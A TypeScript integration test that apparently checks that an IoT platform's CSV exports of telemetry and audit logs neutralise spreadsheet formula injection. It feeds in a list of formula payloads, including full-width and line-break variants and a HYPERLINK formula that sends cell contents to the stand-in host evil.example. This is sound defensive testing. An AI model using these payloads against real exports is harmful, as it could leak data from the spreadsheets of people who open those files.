import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { connectDevice, registerDevice } from '../integration/mqtt/support.js'
import { type Administrator, createAdministrator } from '../support/accounts.js'
import { type Platform, startPlatform } from '../support/platform.js'

let platform: Platform
let owner: Administrator

/** What a spreadsheet runs: also in full width, and behind quotes and separators that might end the cell. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example?"&A1)',
  '","=1+1',
  '";"=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
]
/** Text values may also have line breaks. */
const withBreaks = ['\t=1+1', '\r=1+1', '\n=1+1', 'x\r\n=1+1', 'x\n"=1+1"']

beforeAll(async () => {
  platform = await startPlatform()
  owner = await createAdministrator(platform)
  const device = await registerDevice(owner, 'pump')
  const client = await connectDevice(platform, device)
  const values = Object.fromEntries([
    ...formulas.map((formula) => [formula, formula]),
    ...withBreaks.map((text, index) => [`break ${index}`, text]),
  ])
  await client.publishAsync(device.credential.topics.telemetry, JSON.stringify(values), { qos: 1 })
  await client.endAsync()
  for (const name of formulas)
    await owner
      .with({ 'user-agent': name.replace(/\P{ASCII}/gu, '') })
      .send('POST', '/api/v1/devices', { name })
})
afterAll(() => platform?.stop())

/** The cells of a file, read as RFC 4180 says, with another delimiter. */
function cellsOf(text: string, delimiter: string): string[] {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${delimiter}\\r\\n]*))(?:${delimiter}|\\r\\n|$)`, 'gy')
  return [...text.replace(/^\uFEFF/, '').matchAll(cell)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

const isNumber = /^-?\d+(?:[.,]\d+)?$/
const isFormula = (cell: string) =>
  /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !isNumber.test(cell)

describe('a file of CSV', () => {
  it.each([
    ['telemetry', 'devices/pump/telemetry?format=csv', ',', formulas.length * 2 + withBreaks.length],
    [
      'telemetry for Excel',
      'devices/pump/telemetry?format=csv&delimiter=semicolon&decimal=comma&bom=true',
      ';',
      20,
    ],
    [
      'telemetry of devices',
      'telemetry?devices=pump&format=csv',
      ',',
      formulas.length * 2 + withBreaks.length,
    ],
    ['the audit', 'audit/export?format=csv', ',', formulas.length],
  ])('has no cell that a spreadsheet runs: %s', async (_, path, delimiter, least) => {
    const answer = await owner.request('GET', `/api/v1/${path}`)
    expect(answer.status).toBe(200)
    const cells = cellsOf(await answer.text(), delimiter)
    expect(cells.filter(isFormula)).toEqual([])
    // What was sent is there, so that it would be found.
    expect(cells.filter((cell) => cell.includes('1+1') || cell.includes('A1')).length).toBeGreaterThanOrEqual(
      least,
    )
  })
})
